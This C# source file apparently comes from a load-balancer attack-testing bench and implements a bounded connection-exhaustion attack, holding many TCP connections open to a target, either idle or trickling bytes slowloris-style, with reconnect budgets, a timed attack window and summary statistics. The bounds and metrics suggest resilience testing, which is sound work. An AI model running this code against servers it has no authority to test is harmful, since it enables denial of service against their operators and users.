using System.Net;
using System.Net.Sockets;
using LbAcme.AttackBench.Attacks;

namespace LbAcme.AttackBench.Net;

/// <summary>
/// Holds <c>count</c> connections to one target open for as long as it runs: each slot connects (at most
/// <see cref="ConcurrentConnects"/> at once), sends <c>opening</c> if given, then sends <c>trickle</c> every
/// <c>trickleInterval</c> (slowloris) or nothing (idle). A slot the server closes connects again a second later, until
/// every slot together has opened <see cref="OpenBudgetPerSlot"/> times its share: bounded in count as well as time. The
/// attack is in force once every slot has tried its first connect (or after <see cref="AttackWindow.MaxBuildUp"/>).
/// </summary>
internal sealed class ConnectionHolder(IReadOnlyList<IPAddress> sources, IPEndPoint target, int count, byte[]? opening = null, byte[]? trickle = null, TimeSpan trickleInterval = default)
{
    public const int ConcurrentConnects = 256;
    public const int OpenBudgetPerSlot = 20;
    private static readonly TimeSpan ConnectTimeout = TimeSpan.FromSeconds(5);
    private static readonly TimeSpan ReopenPause = TimeSpan.FromSeconds(1);
    private long _attempts;
    private long _firstTries;
    private long _opened;
    private long _failed;
    private long _closedByServer;
    private long _held;
    private long _peakHeld;
    private long _heldWhenInForce;
    private TimeSpan _buildUp;

    public async Task RunAsync(AttackWindow window, CancellationToken cancellationToken)
    {
        using var stop = CancellationTokenSource.CreateLinkedTokenSource(cancellationToken);
        using var connecting = new SemaphoreSlim(ConcurrentConnects);
        var slots = Task.WhenAll(Enumerable.Range(0, count).Select(slot => Task.Run(() => HoldSlotAsync(sources[slot % sources.Count], connecting, stop.Token), CancellationToken.None)));
        var buildUp = System.Diagnostics.Stopwatch.StartNew();
        while (Interlocked.Read(ref _firstTries) < count && buildUp.Elapsed < AttackWindow.MaxBuildUp && !slots.IsCompleted)
        {
            await Task.Delay(100, CancellationToken.None);
        }
        _buildUp = buildUp.Elapsed;
        _heldWhenInForce = Interlocked.Read(ref _held);
        window.Begin();
        stop.CancelAfter(window.Duration);
        await slots;
    }

    public string Summary =>
        $"{count} slots, {_heldWhenInForce} held after {_buildUp.TotalSeconds:0.0} s of build-up: {Interlocked.Read(ref _opened)} opened, peak {Interlocked.Read(ref _peakHeld)} held, "
        + $"{Interlocked.Read(ref _closedByServer)} closed by the server, {Interlocked.Read(ref _failed)} connects failed";

    private async Task HoldSlotAsync(IPAddress source, SemaphoreSlim connecting, CancellationToken stop)
    {
        var budget = (long)count * OpenBudgetPerSlot;
        var first = true;
        while (!stop.IsCancellationRequested && Interlocked.Increment(ref _attempts) <= budget)
        {
            var socket = await TryConnectAsync(source, connecting, stop);
            if (first)
            {
                first = false;
                Interlocked.Increment(ref _firstTries);
            }
            if (socket is null)
            {
                await PauseAsync(stop);
                continue;
            }
            using (socket)
            {
                Interlocked.Increment(ref _opened);
                var held = Interlocked.Increment(ref _held);
                InterlockedMax(ref _peakHeld, held);
                var closed = await HoldAsync(socket, stop);
                Interlocked.Decrement(ref _held);
                if (!closed)
                {
                    return;
                }
                Interlocked.Increment(ref _closedByServer);
            }
            await PauseAsync(stop);
        }
    }

    private async Task<Socket?> TryConnectAsync(IPAddress source, SemaphoreSlim connecting, CancellationToken stop)
    {
        try
        {
            await connecting.WaitAsync(stop);
        }
        catch (OperationCanceledException)
        {
            return null;
        }
        try
        {
            using var timeout = CancellationTokenSource.CreateLinkedTokenSource(stop);
            timeout.CancelAfter(ConnectTimeout);
            var socket = await SourceSocket.ConnectAsync(source, target, timeout.Token);
            if (opening is not null)
            {
                await socket.SendAsync(opening, SocketFlags.None, timeout.Token);
            }
            return socket;
        }
        catch (Exception e) when (e is SocketException or OperationCanceledException)
        {
            if (!stop.IsCancellationRequested)
            {
                Interlocked.Increment(ref _failed);
            }
            return null;
        }
        finally
        {
            connecting.Release();
        }
    }

    /// <summary>Keeps the connection until the server ends it (true) or the run stops (false).</summary>
    private async Task<bool> HoldAsync(Socket socket, CancellationToken stop)
    {
        var sink = new byte[512];
        try
        {
            var receive = socket.ReceiveAsync(sink, SocketFlags.None, stop).AsTask();
            while (true)
            {
                if (trickle is null)
                {
                    // Whatever the server sends (a 408, a 400) is read and dropped; only its close ends the hold.
                    if (await receive == 0)
                    {
                        return true;
                    }
                    receive = socket.ReceiveAsync(sink, SocketFlags.None, stop).AsTask();
                    continue;
                }
                var tick = Task.Delay(trickleInterval, stop);
                if (await Task.WhenAny(receive, tick) == tick)
                {
                    await tick;
                    await socket.SendAsync(trickle, SocketFlags.None, stop);
                    continue;
                }
                if (await receive == 0)
                {
                    return true;
                }
                receive = socket.ReceiveAsync(sink, SocketFlags.None, stop).AsTask();
            }
        }
        catch (OperationCanceledException)
        {
            return false;
        }
        catch (SocketException)
        {
            return !stop.IsCancellationRequested;
        }
    }

    private static async Task PauseAsync(CancellationToken stop)
    {
        try
        {
            await Task.Delay(ReopenPause, stop);
        }
        catch (OperationCanceledException)
        {
            // The run is over.
        }
    }

    private static void InterlockedMax(ref long target, long value)
    {
        long seen;
        while ((seen = Interlocked.Read(ref target)) < value && Interlocked.CompareExchange(ref target, value, seen) != seen)
        {
        }
    }
}
